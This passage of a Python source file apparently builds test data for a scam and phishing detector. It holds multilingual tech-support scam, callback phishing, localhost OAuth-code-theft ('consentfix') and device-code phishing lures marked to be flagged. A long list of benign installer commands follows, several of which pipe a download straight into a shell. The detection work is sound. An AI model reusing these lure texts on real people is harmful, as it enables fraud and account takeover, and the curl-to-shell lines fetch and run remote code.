        "https://jinggao.diannao-suoding.example/",
        "您的电脑已被锁定！检测到木马病毒，您的银行信息可能已泄露。\n请勿关闭此页面，立即拨打微软技术支持热线：+86 10 5550 1846",
    ),
    (
        "ar",
        "https://tahdhir.jihaz-maghluq.test/",
        "تم قفل جهاز الكمبيوتر الخاص بك بسبب نشاط مريب.\nلا تقم بإيقاف تشغيل الجهاز. اتصل بدعم مايكروسوفت فورًا: +971 4 555 0129",
    ),
]:
    lure(f"{SCAM}-{lang}", UNK, source, text, expect="flagged", platform="any")

for technique, source, text in [
    (
        "callback-norton-renewal-en",
        None,
        "Norton 360 Total Protection - Order #NR-884120\nYour subscription has been renewed for $499.99 and will be charged today.\nIf you did not authorise this renewal, call our billing desk within 24 hours: +1 (555) 017-4482",
    ),
    (
        "callback-paypal-invoice-de",
        None,
        "PayPal-Rechnung INV-2026-7731\nBetrag: 649,00 EUR für Bitcoin-Kauf.\nSie haben diese Zahlung nicht veranlasst? Rufen Sie sofort unseren Kundendienst an: +49 555 0173 2219",
    ),
    (
        "callback-geek-squad-fr",
        None,
        "Geek Squad - Confirmation de commande\nMontant prélevé : 389,99 € (renouvellement automatique de 3 ans).\nPour annuler et obtenir un remboursement, appelez le +33 5 55 01 93 40.",
    ),
    (
        "callback-apple-icloud-es",
        None,
        "Apple ID: se ha registrado una compra de iCloud+ 2 TB por 299,00 €.\nSi no reconoce este cargo, llame al departamento de facturación: +34 555 018 441",
    ),
    (
        "callback-antivirus-nl",
        None,
        "Bestelbevestiging McAfee LiveSafe - 3 apparaten - € 429,00\nDeze betaling wordt vandaag afgeschreven. Niet besteld? Bel binnen 24 uur: +31 20 555 0177",
    ),
    (
        "callback-bank-fraud-it",
        None,
        "Banca: rilevato un bonifico di 2.480,00 € verso un IBAN estero.\nSe non l'hai autorizzato, chiama subito l'ufficio antifrode al +39 555 019 2264 e non condividere il codice ricevuto via SMS.",
    ),
    (
        "callback-crypto-exchange-pl",
        None,
        "Binance: nowe logowanie z urządzenia Windows (Lagos, NG) i wypłata 0,84 BTC oczekuje.\nJeśli to nie Ty, zadzwoń do działu bezpieczeństwa: +48 22 555 02 71",
    ),
]:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

for technique, source, text in [
    (
        "consentfix-localhost-code-state",
        "https://sso.login-verify-portal.test/continue",
        "http://localhost:8400/?code=0.AXkAv12dbS9mB0mJpKqL7cFz&state=rt12&session_state=4f1c-2a",
    ),
    (
        "consentfix-loopback-azure-cli",
        "https://mfa.account-recheck.example/",
        "http://127.0.0.1:40219/?code=1.ARoA9kQp2f8Kz0e7t6QmWw&client_info=eyJ1aWQiOiJ4In0&state=cli12",
    ),
    (
        "consentfix-instruction-fr",
        "https://connexion.partage-document.test/",
        "Pour terminer la connexion, copiez l'adresse complète qui commence par http://localhost de la barre d'adresse et collez-la dans le champ ci-dessous.",
    ),
    (
        "consentfix-instruction-it",
        "https://accesso.documento-condiviso.example/",
        "Per completare l'accesso copia l'indirizzo che inizia con http://localhost dalla barra degli indirizzi e incollalo qui sotto, poi premi Verifica.",
    ),
    (
        "consentfix-ipv6-loopback",
        "https://login.secure-fileviewer.test/",
        "http://[::1]:53110/callback?code=M.C512_BAY.2.U.a8f1c4&state=xk12",
    ),
]:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

for technique, source, text in [
    (
        "device-code-voicemail-en",
        "https://voicemail.teams-notify.test/msg/22",
        "You have a new voicemail (0:47). To listen, go to https://microsoft.com/devicelogin and enter the code GQ7K-MW2P to verify your identity.",
    ),
    (
        "device-code-invoice-de",
        "https://rechnung.portal-freigabe.example/",
        "Zur Freigabe der Rechnung öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code HB4N2XQ7 ein. Der Code läuft in 15 Minuten ab.",
    ),
    (
        "device-code-github-pt",
        "https://github-org-invite.example/accept",
        "Para aceitar o convite da organização, abra https://github.com/login/device e digite o código 7F2D-9KQA.",
    ),
    (
        "device-code-shared-drive-es",
        "https://unidad.compartida-aviso.test/",
        "Se ha compartido una carpeta contigo. Para acceder, visita https://microsoft.com/devicelogin e introduce el código R8XW3TLM.",
    ),
    (
        "device-code-security-check-pl",
        "https://konto.weryfikacja-bezpieczenstwa.example/",
        "Wymagana weryfikacja konta służbowego: wejdź na https://microsoft.com/devicelogin i wpisz kod KT9P-4MZE w ciągu 10 minut.",
    ),
]:
    lure(technique, UNK, source, text, expect="flagged", platform="any")

# ----------------------------------------------------------------------------------------------
# Benign: (kind, target, source, text)
# ----------------------------------------------------------------------------------------------

BENIGN: list[tuple[str, str, str | None, str]] = []
OWN = "installer-own-page"


def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# (page, command) as the project's README, site or release page gives it.

OWN_PAGES = [
    ("https://github.com/Canop/rhit", "cargo install rhit"),
    ("https://github.com/orhun/kmon", "cargo install kmon"),
    ("https://github.com/orhun/binsider", "cargo install binsider"),
    ("https://github.com/orhun/runst", "cargo install runst"),
    ("https://github.com/orhun/rustypaste", "cargo install rustypaste"),
    ("https://github.com/orhun/rustypaste-cli", "cargo install rustypaste-cli"),
    ("https://github.com/mozilla/grcov", "cargo install grcov"),
    ("https://github.com/mookid/diffr", "cargo install diffr"),
    ("https://github.com/lusingander/serie", "cargo install --locked serie"),
    ("https://github.com/lusingander/stu", "cargo install --locked stu"),
    ("https://github.com/mrjackwills/oxker", "cargo install oxker"),
    ("https://github.com/wfxr/code-minimap", "cargo install --locked code-minimap"),
    ("https://github.com/wfxr/csview", "cargo install csview"),
    (
        "https://github.com/Feel-ix-343/markdown-oxide",
        "cargo install --locked --git https://github.com/Feel-ix-343/markdown-oxide.git markdown-oxide",
    ),
    ("https://github.com/blacknon/hwatch", "cargo install hwatch"),
    ("https://github.com/fornwall/rust-script", "cargo install rust-script"),
    (
        "https://github.com/cargo-public-api/cargo-public-api",
        "cargo install --locked cargo-public-api",
    ),
    ("https://github.com/kobzol/cargo-wizard", "cargo install cargo-wizard"),
    ("https://github.com/rust-lang/cargo-bisect-rustc", "cargo install cargo-bisect-rustc"),
    ("https://github.com/bnjbvr/cargo-machete", "cargo install cargo-machete"),
    ("https://github.com/tokio-rs/console", "cargo install --locked tokio-console"),
    ("https://github.com/knurling-rs/probe-run", "cargo install probe-run"),
    ("https://github.com/wasm-bindgen/wasm-bindgen", "cargo install wasm-bindgen-cli"),
    ("https://github.com/bytecodealliance/wasm-tools", "cargo install --locked wasm-tools"),
    (
        "https://github.com/bytecodealliance/cargo-component",
        "cargo install cargo-component --locked",
    ),
    ("https://github.com/yassinebridi/serpl", "cargo install serpl"),
    ("https://github.com/printfn/fend", "cargo install fend"),
    ("https://github.com/altsem/gitu", "cargo install gitu --locked"),
    ("https://github.com/Svetlitski/fcp", "cargo install fcp"),
    ("https://github.com/nivekuil/rip", "cargo install rm-improved"),
    ("https://github.com/MilesCranmer/rip2", "cargo install --locked rip2"),
    ("https://github.com/pythops/impala", "cargo install impala"),
    ("https://github.com/pythops/bluetui", "cargo install bluetui"),
    ("https://github.com/kaplanelad/shellfirm", "cargo install shellfirm"),
    ("https://github.com/veeso/termscp", "cargo install termscp --locked"),
    ("https://github.com/badboy/mdbook-mermaid", "cargo install mdbook-mermaid"),
    ("https://github.com/tommilligan/mdbook-admonish", "cargo install mdbook-admonish"),
    ("https://github.com/Michael-F-Bryan/mdbook-linkcheck", "cargo install mdbook-linkcheck"),
    ("https://github.com/tectonic-typesetting/tectonic", "cargo install tectonic"),
    ("https://github.com/Enter-tainer/typstyle", "cargo install typstyle --locked"),
    ("https://github.com/AmmarAbouZor/tui-journal", "cargo install tui-journal"),
    ("https://github.com/nagy135/rusty-rain", "cargo install rusty-rain"),
    ("https://github.com/fujiapple852/trippy", "cargo install trippy --locked"),
    ("https://github.com/pkolaczk/fclones", "cargo install fclones"),
    (
        "https://github.com/projectdiscovery/notify",
        "go install -v github.com/projectdiscovery/notify/cmd/notify@latest",
    ),
    (
        "https://github.com/projectdiscovery/cloudlist",
        "go install -v github.com/projectdiscovery/cloudlist/cmd/cloudlist@latest",
    ),
    ("https://github.com/Emoe/kxss", "go install github.com/Emoe/kxss@latest"),
    ("https://github.com/bp0lr/gauplus", "go install github.com/bp0lr/gauplus@latest"),
    (
        "https://github.com/dwisiswant0/crlfuzz",
        "go install github.com/dwisiswant0/crlfuzz/cmd/crlfuzz@latest",
    ),
    ("https://github.com/trickest/dsieve", "go install github.com/trickest/dsieve@latest"),
    ("https://github.com/glebarez/cero", "go install github.com/glebarez/cero@latest"),
    (
        "https://github.com/edoardottt/cariddi",
        "go install github.com/edoardottt/cariddi/cmd/cariddi@latest",
    ),
    (
        "https://github.com/edoardottt/csprecon",
        "go install github.com/edoardottt/csprecon/cmd/csprecon@latest",
    ),
    ("https://github.com/itchyny/mmv", "go install github.com/itchyny/mmv/cmd/mmv@latest"),
    ("https://github.com/itchyny/fillin", "go install github.com/itchyny/fillin@latest"),
    (
        "https://github.com/rhysd/notes-cli",
        "go install github.com/rhysd/notes-cli/cmd/notes@latest",
    ),
    ("https://github.com/arl/gitmux", "go install github.com/arl/gitmux@latest"),
    (
        "https://github.com/git-chglog/git-chglog",
        "go install github.com/git-chglog/git-chglog/cmd/git-chglog@latest",
    ),
    (
        "https://github.com/tilt-dev/ctlptl",
        "go install github.com/tilt-dev/ctlptl/cmd/ctlptl@latest",
    ),
    ("https://github.com/nakabonne/ali", "go install github.com/nakabonne/ali@latest"),
    (
        "https://github.com/incu6us/goimports-reviser",
        "go install github.com/incu6us/goimports-reviser/v3@latest",
    ),
    (
        "https://github.com/nishanths/exhaustive",
        "go install github.com/nishanths/exhaustive/cmd/exhaustive@latest",
    ),
    ("https://github.com/mibk/dupl", "go install github.com/mibk/dupl@latest"),
    (
        "https://github.com/jgautheron/goconst",
        "go install github.com/jgautheron/goconst/cmd/goconst@latest",
    ),
    (
        "https://github.com/gordonklaus/ineffassign",
        "go install github.com/gordonklaus/ineffassign@latest",
    ),
    ("https://github.com/kyoh86/richgo", "go install github.com/kyoh86/richgo@latest"),
    ("https://github.com/rakyll/gotest", "go install github.com/rakyll/gotest@latest"),
    ("https://github.com/mfridman/tparse", "go install github.com/mfridman/tparse@latest"),
    (
        "https://github.com/nikolaydubina/go-cover-treemap",
        "go install github.com/nikolaydubina/go-cover-treemap@latest",
    ),
    ("https://github.com/ofabry/go-callvis", "go install github.com/ofabry/go-callvis@latest"),
    ("https://github.com/icholy/gomajor", "go install github.com/icholy/gomajor@latest"),
    (
        "https://github.com/oligot/go-mod-upgrade",
        "go install github.com/oligot/go-mod-upgrade@latest",
    ),
    ("https://github.com/dmarkham/enumer", "go install github.com/dmarkham/enumer@latest"),
    (
        "https://github.com/go-swagger/go-swagger",
        "go install github.com/go-swagger/go-swagger/cmd/swagger@latest",
    ),
    ("https://github.com/multiprocessio/dsq", "go install github.com/multiprocessio/dsq@latest"),
    ("https://github.com/mithrandie/csvq", "go install github.com/mithrandie/csvq@latest"),
    ("https://github.com/ayoisaiah/f2", "go install github.com/ayoisaiah/f2/v2/cmd/f2@latest"),
    ("https://github.com/quackduck/uniclip", "go install github.com/quackduck/uniclip@latest"),
    ("https://github.com/quackduck/aces", "go install github.com/quackduck/aces@latest"),
    ("https://github.com/mattn/goreman", "go install github.com/mattn/goreman@latest"),
    (
        "https://github.com/mattn/efm-langserver",
        "go install github.com/mattn/efm-langserver@latest",
    ),
    ("https://github.com/DarthSim/hivemind", "go install github.com/DarthSim/hivemind@latest"),
    ("https://github.com/DarthSim/overmind", "go install github.com/DarthSim/overmind/v2@latest"),
    (
        "https://github.com/githubnemo/CompileDaemon",
        "go install github.com/githubnemo/CompileDaemon@latest",
    ),
    ("https://github.com/mitranim/gow", "go install github.com/mitranim/gow@latest"),
    ("https://github.com/bokwoon95/wgo", "go install github.com/bokwoon95/wgo@latest"),
    ("https://github.com/axw/gocov", "go install github.com/axw/gocov/gocov@latest"),
    ("https://github.com/AlekSi/gocov-xml", "go install github.com/AlekSi/gocov-xml@latest"),
    (
        "https://github.com/hexdigest/gowrap",
        "go install github.com/hexdigest/gowrap/cmd/gowrap@latest",
    ),
    (
        "https://github.com/gojuno/minimock",
        "go install github.com/gojuno/minimock/v3/cmd/minimock@latest",
    ),
    ("https://github.com/matryer/moq", "go install github.com/matryer/moq@latest"),
    (
        "https://github.com/jfeliu007/goplantuml",
        "go install github.com/jfeliu007/goplantuml/cmd/goplantuml@latest",
    ),
    ("https://github.com/BishopFox/cloudfox", "go install github.com/BishopFox/cloudfox@latest"),
    (
        "https://github.com/praetorian-inc/fingerprintx",
        "go install github.com/praetorian-inc/fingerprintx/cmd/fingerprintx@latest",
    ),
    ("https://github.com/tomnomnom/fff", "go install github.com/tomnomnom/fff@latest"),
    (
        "https://github.com/Hackmanit/Web-Cache-Vulnerability-Scanner",
        "go install -v github.com/Hackmanit/Web-Cache-Vulnerability-Scanner@latest",
    ),
    ("https://github.com/jsha/minica", "go install github.com/jsha/minica@latest"),
    ("https://github.com/caarlos0/timer", "go install github.com/caarlos0/timer@latest"),
    ("https://github.com/caarlos0/org-stats", "go install github.com/caarlos0/org-stats@latest"),
    ("https://github.com/caarlos0/jsonfmt", "go install github.com/caarlos0/jsonfmt@latest"),
    ("https://github.com/k1LoW/tbls", "go install github.com/k1LoW/tbls@latest"),
    ("https://github.com/k1LoW/octocov", "go install github.com/k1LoW/octocov@latest"),
    (
        "https://github.com/Songmu/gocredits",
        "go install github.com/Songmu/gocredits/cmd/gocredits@latest",
    ),
    (
        "https://github.com/Songmu/make2help",
        "go install github.com/Songmu/make2help/cmd/make2help@latest",
    ),
    (
        "https://github.com/haya14busa/goplay",
        "go install github.com/haya14busa/goplay/cmd/goplay@latest",
    ),
    (
        "https://github.com/x-motemen/gobump",
        "go install github.com/x-motemen/gobump/cmd/gobump@latest",
    ),
    ("https://github.com/chainguard-dev/apko", "go install chainguard.dev/apko@latest"),
    (
        "https://github.com/awslabs/amazon-ecr-credential-helper",
        "go install github.com/awslabs/amazon-ecr-credential-helper/ecr-login/cli/docker-credential-ecr-login@latest",
    ),
    (
        "https://github.com/GoogleCloudPlatform/docker-credential-gcr",
        "go install github.com/GoogleCloudPlatform/docker-credential-gcr/v2@latest",
    ),
    ("https://github.com/grafana/tanka", "go install github.com/grafana/tanka/cmd/tk@latest"),
    (
        "https://github.com/jsonnet-bundler/jsonnet-bundler",
        "go install -a github.com/jsonnet-bundler/jsonnet-bundler/cmd/jb@latest",
    ),
    (
        "https://github.com/google/go-jsonnet",
        "go install github.com/google/go-jsonnet/cmd/jsonnet@latest",
    ),
    ("https://github.com/minamijoyo/tfupdate", "go install github.com/minamijoyo/tfupdate@latest"),
    (
        "https://github.com/minamijoyo/tfmigrate",
        "go install github.com/minamijoyo/tfmigrate@latest",
    ),
    ("https://github.com/tmccombs/hcl2json", "go install github.com/tmccombs/hcl2json@latest"),
    ("https://github.com/muesli/obs-cli", "go install github.com/muesli/obs-cli@latest"),
    ("https://github.com/muesli/gitty", "go install github.com/muesli/gitty@latest"),
    ("https://github.com/muesli/deckmaster", "go install github.com/muesli/deckmaster@latest"),
    ("https://github.com/darrenburns/elia", "pipx install --python 3.11 elia-chat"),
    ("https://github.com/charles-001/dolphie", "pip install dolphie"),
    ("https://github.com/tmux-python/tmuxp", "pip install --user tmuxp"),
    ("https://github.com/soimort/you-get", "pip3 install you-get"),
    ("https://github.com/dylanaraps/pywal", "pip3 install --user pywal"),
    ("https://github.com/ly4k/Certipy", "pip3 install certipy-ad"),
    ("https://github.com/JonathanSalwan/ROPgadget", "sudo -H python3 -m pip install ROPgadget"),
    ("https://github.com/sensepost/objection", "pip3 install -U objection"),
    ("https://github.com/HypothesisWorks/hypothesis", "pip install hypothesis"),
    ("https://github.com/sphinx-doc/sphinx-autobuild", "pip install sphinx-autobuild"),
    ("https://github.com/jorisroovers/gitlint", "pip install gitlint"),
    ("https://github.com/nteract/papermill", "pip install papermill"),
    ("https://github.com/spotify/luigi", "pip install luigi"),
    ("https://github.com/unionai-oss/pandera", "pip install pandera"),
    ("https://github.com/google/python-fire", "pip install fire"),
    ("https://github.com/Textualize/textual-dev", "pip install textual-dev"),
    ("https://github.com/pypa/cibuildwheel", "pipx install cibuildwheel"),
    ("https://github.com/kivy/buildozer", "pip3 install --user --upgrade buildozer"),
    ("https://github.com/aws/chalice", "pip install chalice"),
    ("https://github.com/getmoto/moto", "pip install 'moto[ec2,s3,all]'"),
    ("https://github.com/cloud-custodian/cloud-custodian", "pip install c7n"),
    ("https://github.com/nccgroup/ScoutSuite", "pip install scoutsuite"),
    ("https://github.com/salesforce/cloudsplaining", "pip3 install --user cloudsplaining"),
    ("https://github.com/PyCQA/docformatter", "pip install --upgrade docformatter"),
    ("https://github.com/adamchainz/django-upgrade", "python -m pip install django-upgrade"),
    (
        "https://github.com/nextstrain/cli",
        "curl -fsSL --proto '=https' https://nextstrain.org/cli/installer/linux | bash",
    ),
    (
        "https://github.com/snakemake/snakemake",
        "conda create -c conda-forge -c bioconda -n snakemake snakemake",
    ),
    ("https://github.com/nf-core/tools", "pip install nf-core"),
    ("https://github.com/galaxyproject/planemo", "pip install planemo"),
    ("https://github.com/BenLangmead/bowtie2", "conda install bioconda::bowtie2"),
    ("https://github.com/COMBINE-lab/salmon", "conda install -c bioconda salmon"),
    ("https://github.com/samtools/samtools", "conda install -c bioconda samtools"),
    (
        "https://github.com/lh3/minimap2",
        "curl -L https://github.com/lh3/minimap2/releases/download/v2.28/minimap2-2.28_x64-linux.tar.bz2 | tar -jxvf -",
    ),
    ("https://github.com/lh3/seqtk", "git clone https://github.com/lh3/seqtk.git; cd seqtk; make"),
    ("https://github.com/marbl/Krona", "conda install -c bioconda krona"),
    (
        "https://github.com/tseemann/prokka",
        "conda install -c conda-forge -c bioconda -c defaults prokka",
    ),
    (
        "https://github.com/tseemann/snippy",
        "conda install -c conda-forge -c bioconda -c defaults snippy",
    ),
    ("https://github.com/ablab/spades", "conda install -c bioconda spades"),
    (
        "https://github.com/rrwick/Filtlong",
        "git clone https://github.com/rrwick/Filtlong.git && cd Filtlong && make -j",
    ),
    ("https://github.com/wdecoster/NanoPlot", "pip install NanoPlot"),
    ("https://github.com/scverse/anndata", "pip install anndata"),
    ("https://github.com/OpenMM/openmm", "conda install -c conda-forge openmm"),
    ("https://github.com/deepchem/deepchem", "pip install deepchem"),
    ("https://github.com/ase/ase", "pip install --upgrade ase"),
    ("https://github.com/mdtraj/mdtraj", "conda install -c conda-forge mdtraj"),
    ("https://github.com/sunpy/sunpy", "pip install sunpy"),
    ("https://github.com/skyfielders/python-skyfield", "pip install skyfield"),
    ("https://github.com/pyvista/pyvista", "pip install pyvista"),
    ("https://github.com/K3D-tools/K3D-jupyter", "pip install k3d"),
    ("https://github.com/holoviz/datashader", "pip install datashader"),
    ("https://github.com/Toblerity/Fiona", "pip install fiona"),
    ("https://github.com/opengeos/leafmap", "pip install leafmap"),
    ("https://github.com/pysal/pysal", "pip install pysal"),
    ("https://github.com/pydata/xarray", "python -m pip install xarray"),
    ("https://github.com/fsspec/filesystem_spec", "pip install fsspec"),
    (
        "https://github.com/rapidsai/cudf",
        "pip install --extra-index-url=https://pypi.nvidia.com cudf-cu12",
    ),
    ("https://github.com/google-deepmind/dm-haiku", "pip install -U dm-haiku"),
    ("https://github.com/skorch-dev/skorch", "python -m pip install -U skorch"),
    ("https://github.com/huggingface/peft", "pip install peft"),
    ("https://github.com/abetlen/llama-cpp-python", "pip install llama-cpp-python"),
    ("https://github.com/qdrant/qdrant-client", "pip install qdrant-client"),
    ("https://github.com/neuml/txtai", "pip install txtai"),
    ("https://github.com/explosion/spaCy", "pip install -U spacy"),
    ("https://github.com/MaartenGr/BERTopic", "pip install bertopic"),
    ("https://github.com/pytorch/captum", "pip install captum"),
    ("https://github.com/interpretml/interpret", "pip install interpret"),
    ("https://github.com/hyperopt/hyperopt", "pip install hyperopt"),
    ("https://github.com/autogluon/autogluon", "pip install autogluon"),
    ("https://github.com/automl/auto-sklearn", "pip install auto-sklearn"),
    ("https://github.com/scikit-learn-contrib/category_encoders", "pip install category_encoders"),
    ("https://github.com/alteryx/featuretools", "python -m pip install featuretools"),
    ("https://github.com/Nixtla/statsforecast", "pip install statsforecast"),
    ("https://github.com/blue-yonder/tsfresh", "pip install tsfresh"),
    ("https://github.com/pyro-ppl/pyro", "pip install pyro-ppl"),
    ("https://github.com/arviz-devs/arviz", "pip install arviz"),
    ("https://github.com/lmfit/lmfit-py", "pip install lmfit"),
    ("https://github.com/pyg-team/pytorch_geometric", "pip install torch_geometric"),
    ("https://github.com/Pyomo/pyomo", "pip install pyomo"),
    ("https://github.com/pvlib/pvlib-python", "pip install pvlib"),
    ("https://github.com/dhylands/rshell", "sudo pip3 install rshell"),
    ("https://github.com/pyserial/pyserial", "python -m pip install pyserial"),
    ("https://github.com/pymodbus-dev/pymodbus", "pip install pymodbus"),
    ("https://github.com/hardbyte/python-can", "pip install python-can"),
    ("https://github.com/openfaas/faas-cli", "curl -sSL https://cli.openfaas.com | sudo sh"),
    (
        "https://get-coursier.io/docs/cli-installation",
        'curl -fL "https://github.com/coursier/launchers/raw/master/cs-x86_64-pc-linux.gz" | gzip -d > cs && chmod +x cs && ./cs setup',
    ),
    ("https://rakubrew.org/", "curl https://rakubrew.org/install-on-perl.sh | sh"),
    ("https://perlbrew.pl/", "\\curl -L https://install.perlbrew.pl | bash"),
    (
        "https://github.com/aandrew-me/tgpt",
        "curl -sSL https://raw.githubusercontent.com/aandrew-me/tgpt/main/install | bash -s /usr/local/bin",
    ),
    (
        "https://github.com/CorentinTh/it-tools",
        "docker run -d --name it-tools --restart unless-stopped -p 8080:80 corentinth/it-tools:latest",
    ),
    ("https://github.com/lirantal/dockly", "npm install -g dockly"),
    ("https://github.com/LGUG2Z/whkd", "winget install LGUG2Z.whkd"),
    ("https://github.com/Rem0o/FanControl.Releases", "winget install Rem0o.FanControl"),
    ("https://github.com/starship/starship", "winget install --id Starship.Starship"),
    ("https://github.com/russellbanks/Komac", "winget install komac"),
    ("https://github.com/kelleyma49/PSFzf", "Install-Module -Name PSFzf"),
    ("https://github.com/PowershellFrameworkCollective/psframework", "Install-Module PSFramework"),
    ("https://github.com/PowerShellOrg/Plaster", "Install-Module Plaster -Scope CurrentUser"),
    ("https://github.com/jborean93/PSToml", "Install-Module -Name PSToml"),
    (
        "https://github.com/EvotecIT/PSSharedGoods",
        "Install-Module -Name PSSharedGoods -AllowClobber -Force",
    ),
    ("https://github.com/leits/MeetingBar", "brew install --cask meetingbar"),
    ("https://github.com/alienator88/Pearcleaner", "brew install pearcleaner"),
    ("https://github.com/swiftbar/SwiftBar", "brew install swiftbar"),
    ("https://github.com/mangerlahn/Latest", "brew install --cask latest"),
    ("https://github.com/toy/blueutil", "brew install blueutil"),
    ("https://github.com/deweller/switchaudio-osx", "brew install switchaudio-osx"),
    ("https://github.com/waydabber/BetterDisplay", "brew install --cask betterdisplay"),
    ("https://github.com/podman-desktop/podman-desktop", "brew install podman-desktop"),
    (
        "https://github.com/sbmpost/AutoRaise",
        "brew tap dimentium/autoraise\nbrew install autoraise",
    ),
    ("https://github.com/sindresorhus/caprine", "brew install --cask caprine"),
    ("https://github.com/gao-sun/eul", "brew install --cask eul"),
    ("https://github.com/tw93/Mole", "brew install tw93/tap/mole"),
    ("https://github.com/Mortennn/Dozer", "brew install --cask dozer"),
    ("https://github.com/sveinbjornt/Sloth", "brew install --cask sloth"),
    ("https://github.com/sveinbjornt/Platypus", "brew install --cask platypus"),
    ("https://github.com/ObuchiYuki/DevToysMac", "brew install --cask devtoysmac"),
    ("https://github.com/DevToys-app/DevToys", "winget install DevToys-app.DevToys"),
    ("https://github.com/tapio/live-server", "npm install -g live-server"),
    ("https://github.com/pahen/madge", "npm -g install madge"),
    ("https://github.com/jeffijoe/typesync", "npm install -g typesync"),
    ("https://github.com/sintaxi/surge", "npm install --global surge"),
    (
        "https://github.com/conventional-changelog/commitlint",
        "npm install -D @commitlint/cli @commitlint/config-conventional",
    ),
    ("https://github.com/antfu-collective/taze", "npx taze"),
    ("https://github.com/voidcosmos/npkill", "npx npkill"),
    ("https://github.com/MrRio/vtop", "npm install -g vtop"),
    ("https://github.com/paulirish/git-open", "npm install --global git-open"),
    ("https://github.com/carloscuesta/gitmoji-cli", "npm i -g gitmoji-cli"),
    ("https://github.com/egoist/dum", "cargo install dum"),
    ("https://github.com/mysticatea/npm-run-all", "npm install npm-run-all --save-dev"),
    ("https://github.com/developit/microbundle", "npm i -D microbundle"),
    ("https://github.com/rollup/rollup", "npm install --global rollup"),
    ("https://github.com/farm-fe/farm", "npm create farm@latest"),
    ("https://github.com/web-infra-dev/rsbuild", "npm create rsbuild@latest"),
    ("https://github.com/avajs/ava", "npm init ava"),
    ("https://github.com/mochajs/mocha", "npm install --global mocha"),
    ("https://github.com/istanbuljs/nyc", "npm i -D nyc"),
    ("https://github.com/bcoe/c8", "npm i c8 -g"),
    ("https://github.com/nightwatchjs/nightwatch", "npm init nightwatch@latest"),
    ("https://github.com/DevExpress/testcafe", "npm install -g testcafe"),
    ("https://github.com/gristlabs/grist-core", "docker run -p 8484:8484 -it gristlabs/grist"),
    ("https://github.com/strapi/strapi", "npx create-strapi@latest"),
    ("https://github.com/middleman/middleman", "gem install middleman"),
    ("https://github.com/nanoc/nanoc", "gem install nanoc"),
    ("https://github.com/athityakumar/colorls", "gem install colorls"),
    ("https://github.com/presidentbeef/brakeman", "gem install brakeman"),
    ("https://github.com/rubysec/bundler-audit", "gem install bundler-audit"),
    ("https://github.com/pry/pry", "gem install pry"),
    ("https://github.com/ddollar/foreman", "gem install foreman"),
    ("https://github.com/xcpretty/xcpretty", "gem install xcpretty"),
    ("https://github.com/mono0926/LicensePlist", "brew install licenseplist"),
    ("https://github.com/krzysztofzablocki/Sourcery", "brew install sourcery"),
    ("https://github.com/SwiftGen/SwiftGen", "brew install swiftgen"),
    ("https://github.com/peripheryapp/periphery", "brew install periphery"),
    ("https://github.com/yonaskolb/Mint", "brew install mint"),
    ("https://github.com/invertase/melos", "dart pub global activate melos"),
    ("https://github.com/dart-lang/dart_style", "dart pub global activate dart_style"),
    (
        "https://github.com/VeryGoodOpenSource/very_good_cli",
        "dart pub global activate very_good_cli",
    ),
    ("https://github.com/infinitered/ignite", "npx ignite-cli@latest new PizzaApp"),
    ("https://github.com/ionic-team/capacitor", "npm i @capacitor/core\nnpm i -D @capacitor/cli"),
    ("https://github.com/apache/cordova-cli", "npm install -g cordova"),
    ("https://github.com/NativeScript/NativeScript", "npm install -g nativescript"),
    ("https://github.com/neutralinojs/neutralinojs", "npm install -g @neutralinojs/neu"),
    ("https://github.com/jsiebens/hashi-up", "curl -sLS https://get.hashi-up.dev | sh"),
    ("https://github.com/rancher/rke2", "curl -sfL https://get.rke2.io | sh -"),
    (
        "https://github.com/clj-kondo/clj-kondo",
        "curl -sLO https://raw.githubusercontent.com/clj-kondo/clj-kondo/master/script/install-clj-kondo\nchmod +x install-clj-kondo\n./install-clj-kondo",
    ),
    ("https://github.com/twilio/twilio-cli", "brew tap twilio/brew && brew install twilio"),
    (
        "https://github.com/cpm-cmake/CPM.cmake",
        "mkdir -p cmake\nwget -O cmake/CPM.cmake https://github.com/cpm-cmake/CPM.cmake/releases/latest/download/get_cpm.cmake",
    ),
    ("https://github.com/fleetdm/fleet", "npm install fleetctl -g"),
    ("https://github.com/ThePorgs/Exegol", "pipx install exegol"),
    ("https://github.com/webinstall/webi-installers", "curl -sS https://webi.sh/webi | sh"),
    ("https://github.com/xwmx/nb", "npm install -g nb.sh"),
    (
        "https://github.com/microsoft/navcontainerhelper",
        "Install-Module -Name BcContainerHelper -force",
    ),
    ("https://github.com/NetSPI/PowerUpSQL", "Install-Module -Name PowerUpSQL"),
    (
        "https://github.com/maester365/maester",
        "Install-Module Pester -SkipPublisherCheck -Force -Scope CurrentUser\nInstall-Module Maester -Scope CurrentUser",
    ),
    ("https://github.com/T0pCyber/hawk", "Install-Module -Name Hawk"),
    (
        "https://github.com/Azure/PSRule.Rules.Azure",
        "Install-Module -Name 'PSRule.Rules.Azure' -Repository PSGallery -Scope CurrentUser",
    ),
    ("https://github.com/microsoft/PSDocs", "Install-Module -Name PSDocs -Scope CurrentUser"),
    ("https://github.com/Badgerati/Pode.Web", "Install-Module -Name Pode.Web"),
    (
        "https://github.com/EvotecIT/PSEventViewer",
        "Install-Module -Name PSEventViewer -AllowClobber -Force",
    ),
    (
        "https://github.com/EvotecIT/ADEssentials",
        "Install-Module -Name ADEssentials -AllowClobber -Force",
    ),
    ("https://github.com/adamdriscoll/selenium-powershell", "Install-Module Selenium"),
    ("https://github.com/cloudbase/powershell-yaml", "Install-Module powershell-yaml"),
    ("https://github.com/RamblingCookieMonster/PSSlack", "Install-Module PSSlack"),
    ("https://github.com/RamblingCookieMonster/PSDepend", "Install-Module PSDepend"),
    ("https://github.com/PoshCode/ModuleBuilder", "Install-Module ModuleBuilder"),
    (
        "https://github.com/devblackops/Stucco",
        "Install-Module -Name Stucco -Repository PSGallery -Scope CurrentUser",
    ),
    ("https://github.com/nohwnd/Profiler", "Install-Module Profiler"),
    ("https://github.com/jdhitsolutions/PSClock", "Install-Module PSClock"),
    ("https://github.com/jdhitsolutions/PSProjectStatus", "Install-Module PSProjectStatus"),
    (
        "https://github.com/jdhitsolutions/PSTypeExtensionTools",
        "Install-Module PSTypeExtensionTools",
    ),
    ("https://github.com/jdhitsolutions/PSCalendar", "Install-Module PSCalendar"),
    ("https://github.com/jdhitsolutions/ADReportingTools", "Install-Module ADReportingTools"),
